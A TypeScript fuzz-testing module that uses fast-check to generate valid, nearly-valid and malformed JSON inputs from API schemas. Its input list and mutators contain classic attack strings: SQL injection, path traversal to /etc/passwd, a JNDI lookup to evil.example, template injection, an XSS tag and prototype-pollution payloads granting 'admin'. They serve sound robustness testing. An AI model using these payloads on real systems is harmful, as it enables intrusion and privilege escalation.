import fc from "fast-check";
import type { JsonSchema } from "../http/reference/schema-pool.ts";

export interface SchemaSource {
  /** Ids that there are something of. */
  readonly ids: readonly string[];
  /** The schema that a `$ref` names. */
  resolve(reference: string): JsonSchema;
}

/** Words that mean something somewhere. */
const words = ["24h", "30d", "clients", "view", "read", "publish", "*", "admin", "enabled", "all"];
const maximumText = 5_000;

/** Values that the schema allows, at least mostly: texts that two members agree upon are not known to it. */
export function validFor(
  schema: JsonSchema,
  source: SchemaSource,
  depth = 0,
): fc.Arbitrary<unknown> {
  const { ids, resolve } = source;
  const of = (part: unknown) => validFor(part as JsonSchema, source, depth + 1);
  if (depth > 12) return fc.constant(null);
  if (typeof schema.$ref === "string") return of(resolve(schema.$ref));
  if (Array.isArray(schema.enum)) return fc.constantFrom(...schema.enum);
  if ("const" in schema) return fc.constant(schema.const);
  const choices = schema.anyOf ?? schema.oneOf;
  if (Array.isArray(choices)) return fc.oneof(...choices.map(of));
  switch (schema.type) {
    case "string":
      return textFor(schema, ids);
    case "integer":
    case "number":
      return fc.integer({ min: numberOf(schema.minimum, -5), max: numberOf(schema.maximum, 1e6) });
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array":
      return fc.array(of(schema.items ?? {}), {
        minLength: numberOf(schema.minItems, 0),
        maxLength: Math.max(numberOf(schema.minItems, 0), 4),
      });
    case "object":
      return objectFor(schema, of);
    default:
      return fc.jsonValue();
  }
}

function objectFor(
  { properties, required, additionalProperties }: JsonSchema,
  of: (part: unknown) => fc.Arbitrary<unknown>,
): fc.Arbitrary<unknown> {
  if (properties !== undefined) {
    const members = Object.entries(properties as object).map(([key, part]) => [key, of(part)]);
    return fc.record(Object.fromEntries(members), {
      requiredKeys: (required ?? []) as never[],
    });
  }
  const value =
    typeof additionalProperties === "object" ? of(additionalProperties) : fc.jsonValue();
  return fc.dictionary(fc.string({ maxLength: 10 }), value, { maxKeys: 3 });
}

function textFor(schema: JsonSchema, ids: readonly string[]): fc.Arbitrary<string> {
  if (typeof schema.pattern === "string" && schema.format === undefined) {
    return matching(new RegExp(schema.pattern));
  }
  const minLength = numberOf(schema.minLength, 0);
  const maxLength = Math.min(numberOf(schema.maxLength, 300), maximumText);
  switch (schema.format) {
    case "uuid":
      return fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...ids) }, fc.uuid());
    case "email":
      return fc.emailAddress();
    case "date-time":
      return fc
        .date({ min: new Date(0), max: new Date("2100-01-01"), noInvalidDate: true })
        .map((date) => date.toISOString());
    default:
      return fc.oneof(
        { weight: 3, arbitrary: fc.constantFrom(...words, ...ids) },
        { weight: 3, arbitrary: fc.stringMatching(/^[a-z][a-z0-9 ]{2,20}$/) },
        fc.string({ unit: "grapheme", minLength, maxLength: Math.min(maxLength, 40) }),
        fc.string({ unit: "binary", minLength, maxLength: Math.min(maxLength, 40) }),
        fc.constant("\u{1f4a5}".repeat(Math.floor(maxLength / 2))),
        fc.constant("x".repeat(maxLength)),
      );
  }
}

/** Texts that match; without a look ahead, which is not generated. */
function matching(pattern: RegExp): fc.Arbitrary<string> {
  const likely = fc.stringMatching(new RegExp(pattern.source.replaceAll(/\(\?!.*?\)/g, "")));
  return likely.filter((text) => pattern.test(text));
}

const numberOf = (value: unknown, otherwise: number) =>
  typeof value === "number" && Number.isSafeInteger(value) ? value : otherwise;

/** Texts of which each has been some program's undoing. */
export const nastyTexts: readonly string[] = [
  "",
  " ",
  "\0",
  "a\0b",
  "\ud800",
  "\u202e\u2066x",
  "\u200b",
  "\ufeff",
  "e\u0301".repeat(200),
  "' or 1=1 --",
  '"; drop table users; --',
  "%00",
  "%",
  "../../etc/passwd",
  "$" + "{jndi:ldap://evil.example}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "__proto__",
  "constructor",
  "toString",
  "NaN",
  "-0",
  "1e999",
  "9".repeat(400),
  "0x7fffffff",
  "2100-02-30T25:61:61Z",
  "-24h",
  "9999999999999999d",
  "[]",
  "x".repeat(20_000),
  "\u{1f4a5}".repeat(3_000),
];

const nasty: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...nastyTexts),
  fc.constantFrom<unknown>(
    null,
    true,
    0,
    -1,
    1.5,
    1e308,
    2 ** 53,
    -(2 ** 63),
    [],
    {},
    [[]],
    [null],
    { $ref: "#" },
    { length: 1e9 },
    Array.from({ length: 1_500 }, () => "x"),
  ),
  fc.jsonValue(),
  fc.constantFrom(20, 63, 64, 65, 400).map((levels) => nested(levels)),
);

const isList = fc.boolean();
/** A change of a value somewhere inside. */
const change = fc.record({
  at: fc.nat(),
  how: fc.constantFrom("replace", "remove", "add", "repeat", "prototype", "nest", "rename"),
  value: nasty,
  isList,
});
type Change = typeof change extends fc.Arbitrary<infer T> ? T : never;

/** What is valid but for some places. */
export function nearlyValid(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc
    .tuple(valid, fc.array(change, { minLength: 1, maxLength: 3 }))
    .map(([value, changes]) => changes.reduce<unknown>(changed, value));
}

/** A JSON text that is hardly one. */
export function hardlyJson(valid: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  const text = valid.map((value) => JSON.stringify(value) ?? "");
  return fc.oneof(
    fc.tuple(text, fc.nat()).map(([whole, at]) => whole.slice(0, at % (whole.length + 1))),
    text.map((whole) => `\ufeff${whole}`),
    text.map((whole) => `${whole}${whole}`),
    text.map((whole) => whole.replace("{", '{"__proto__":{"role":"admin"},')),
    text.map((whole) => whole.replace("{", '{"a":1,"a":2,')),
    text.map((whole) => whole.replaceAll('"', "'")),
    text.map((whole) => whole.replace("}", ",}")),
    text.map((whole) => whole.replace(":", ':NaN,"x":')),
    fc.string({ unit: "binary", maxLength: 60 }),
    fc.constantFrom("", "null", "[]", '"x"', "1e999", '{"a":1e999}', "[".repeat(9_000)),
  );
}

function changed(value: unknown, { at, ...what }: Change): unknown {
  const places = countPlaces(value);
  return changeAt(value, { left: at % places }, what);
}

function countPlaces(value: unknown): number {
  if (typeof value !== "object" || value === null) return 1;
  return Object.values(value).reduce<number>((sum, part) => sum + countPlaces(part), 1);
}

function changeAt(value: unknown, place: { left: number }, what: Omit<Change, "at">): unknown {
  if (place.left-- === 0) return changeHere(value, what);
  if (typeof value !== "object" || value === null) return value;
  if (Array.isArray(value)) return value.map((part) => changeAt(part, place, what));
  return Object.fromEntries(
    Object.entries(value).map(([key, part]) => [key, changeAt(part, place, what)]),
  );
}

function changeHere(value: unknown, { how, value: other, isList }: Omit<Change, "at">): unknown {
  const isObject = typeof value === "object" && value !== null && !Array.isArray(value);
  switch (how) {
    case "remove":
      return Array.isArray(value) ? value.slice(1) : isObject ? withoutFirst(value) : null;
    case "add":
      return Array.isArray(value)
        ? [...value, other]
        : isObject
          ? { ...value, more: other }
          : [value];
    case "repeat":
      return Array.isArray(value) ? [...value, ...value] : [value, value];
    case "prototype":
      return JSON.parse(
        `{"constructor":{"prototype":{"role":"admin"}},"toString":1,"id":${isList}}`,
      );
    case "nest":
      return isList ? [value] : { value };
    case "rename":
      return isObject ? upperCased(value) : other;
    default:
      return other;
  }
}

function withoutFirst(value: object): object {
  return Object.fromEntries(Object.entries(value).slice(1));
}

function upperCased(value: object): object {
  return Object.fromEntries(Object.entries(value).map(([key, part]) => [key.toUpperCase(), part]));
}

function nested(levels: number): unknown {
  let value: unknown = 1;
  for (let level = 0; level < levels; level += 1) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}
